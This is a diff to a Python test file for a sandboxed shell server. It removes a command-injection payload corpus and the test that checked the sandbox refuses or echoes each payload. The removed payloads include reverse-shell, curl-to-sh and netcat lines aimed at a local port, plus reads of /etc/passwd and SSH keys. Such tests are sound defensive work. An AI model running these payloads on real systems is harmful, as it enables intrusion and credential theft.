@@ -1,6 +1,7 @@
-"""Hostile inputs through the real ``bastion-shell`` binary. The tables of a.-c. run in Rust
-(``crates/shell-server/tests/hostile.rs``, through the same binary); this file keeps what drives
-project code inside the sandbox (e.) and the injection-payload corpus (d.).
+"""Hostile inputs through the real ``bastion-shell`` binary. The tables of a.-c.
+and the injection corpus of d. run in Rust (``crates/shell-server/tests/hostile.rs``, through the
+same binary); this file keeps what drives project code inside the sandbox (e.) and the cases
+around it.
 
 * a. the Desktop Commander bypasses as argv (shells, wrappers, interpreters, quoted and
   path-qualified program names, shell metacharacters in arguments);
@@ -280,9 +281,6 @@ async def run_rec(box: Box, s: Any, program: str, args: list[str], **fields: Any
 # paths outside the root: the tables run in Rust, crates/shell-server/tests/hostile.rs.
 # --------------------------------------------------------------------------------------------
 
-REFUSED = {"command_not_allowed", "argument_not_allowed"}
-
-
 async def test_literal_tilde_and_variables_stay_inside(box: Box) -> None:
     async with shell_session(box.root) as s:
         for arg in ["~/.bashrc", "~root/.bashrc", "$HOME/.bashrc", "${HOME}/.profile", "*", "*.txt", "{a,b}.txt"]:
@@ -367,74 +365,8 @@ async def test_system_private_keys_stay_unreadable(box: Box) -> None:
 
 
 # --------------------------------------------------------------------------------------------
-# d. Command-injection payloads
+# d. The command-injection corpus runs in Rust, crates/shell-server/tests/hostile.rs.
 # --------------------------------------------------------------------------------------------
-
-PAYLOADS: list[str] = [
-    # separators and operators
-    ";id", ";id;", "; id", "|id", "| id", "||id", "|| id", "&id", "& id &", "&&id", "&& id", "a;id", "a|id", "a&&id",
-    "a||id", "; touch {m}", "| touch {m}", "&& touch {m}", "|| touch {m};", "& touch {m} &",
-    # substitutions
-    "$(id)", "`id`", "$(touch {m})", "`touch {m}`", "$(sleep 5)", "`sleep 5`", "$(sleep${IFS}5)", "; sleep 5",
-    "| sleep 5 #", "&& sleep 5", "$((1+1))", "${PATH}", "$PATH", "${HOME}", "$0", "$$", "${PATH:0:1}bin",
-    "$(cat /etc/passwd)", "`cat {outside}/sentinel.txt`", "$(<{outside}/sentinel.txt)", "<(touch {m})", ">(touch {m})",
-    # IFS tricks
-    "${IFS}id", "$IFS$9id", ";touch${IFS}{m}", "{touch,{m}}", "cat${IFS}/etc/passwd",
-    # newlines and encodings of them
-    "\nid", "\nid\n", "\ntouch {m}", "\r\nid", "\rtouch {m}", "%0aid", "%0Atouch%20{m}", "%0d%0aid", "\\nid",
-    "a\u2028id", "a\u0085id", "\u000bid", "\u000cid",
-    # redirections
-    "> {m}", ">> {m}", ">| {m}", "2> {m}", "&> {m}", "< /etc/passwd", "<> {m}", "1>&2",
-    # quoting games
-    "';touch {m};'", "\";touch {m};\"", "\\;touch {m}", "'$(id)'", "\"$(id)\"", "$'\\x3b'id", "$'\\ntouch {m}'",
-    # remote payloads
-    "&& curl http://127.0.0.1:9/x | sh", "; wget -qO- http://127.0.0.1:9/x | sh", "| nc -e /bin/sh 127.0.0.1 9",
-    "; bash -i >& /dev/tcp/127.0.0.1/9 0>&1", "|| python3 -c 'import os; os.system(\"id\")'",
-    # globs, history, tilde
-    "*", "?", "[a-z]*", "**/*", ".*", "!!", "!-1", "~", "~root", "~/.ssh/id_rsa",
-    # option-looking text (echo's arguments are literal after a first word)
-    "-e \\x41", "-n", "--help", "--version", "-rf /", "--", "-",
-    # traversal
-    "../../../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "....//....//etc/passwd",
-    # unicode look-alikes and invisible characters
-    "\u037e touch {m}", "\uff1b touch {m}", "\uff5c touch {m}", "\uff04(touch {m})", "\u200btouch {m}",
-    "touch\u00a0{m}", "\u202eid", "\ufeffid", "é;id", "\U0001f4a5;id",
-    # control characters and size
-    "x\tid", "\x1b[31mred\x1b[0m", "\x07\x08\x7f", "a" * 4000,
-]
-
-
-@pytest.mark.parametrize("payload", PAYLOADS, ids=[f"{i:03d}-{p[:20]!r}" for i, p in enumerate(PAYLOADS)])
-async def test_injection_payloads(box: Box, payload: str) -> None:
-    payload = box.sub(payload)
-    async with shell_session(box.root) as s:
-        # (i) echo: back verbatim, byte for byte.
-        t0 = time.monotonic()
-        code, out = await run_rec(box, s, "echo", ["BEGIN", payload, "END"])
-        assert code is None, (code, out)
-        assert out["stdout"] == f"BEGIN {payload} END\n", out
-        assert out["exit_code"] == 0 and out["stderr"] == ""
-        # ls: refused, or an ls error about that exact name; never executed.
-        code, out = await run_rec(box, s, "ls", [payload])
-        if code is None:
-            if payload in ("--", "-n"):
-                assert out["exit_code"] == 0  # an allowed ls option, listing the cwd
-            else:
-                assert out["exit_code"] == 2 and out["stdout"] == "", out
-                assert "No such file" in out["stderr"] or "File name too long" in out["stderr"], out
-        else:
-            assert code in {"argument_not_allowed", "path_outside_root", "denied_by_glob", "invalid_path"}, (code, out)
-        # (ii) cwd: refused, or an existing directory inside the root.
-        code, out = await call_rec(box, s, "run_command", {"program": "pwd", "cwd": payload})
-        if code is None:
-            assert Path(out["stdout"].strip()).resolve().is_relative_to(box.root.resolve()), out
-        else:
-            assert code in {"path_outside_root", "not_found", "invalid_path", "not_a_directory", "denied_by_glob", "name_too_long"}, (code, out)
-        # The payload as a program name.
-        code, out = await call_rec(box, s, "run_command", {"program": payload, "args": []})
-        assert code in REFUSED | {"invalid_argument"}, (code, out)
-        elapsed = time.monotonic() - t0
-        assert elapsed < 3.0, f"four calls took {elapsed:.1f} s"
 
 
 # --------------------------------------------------------------------------------------------
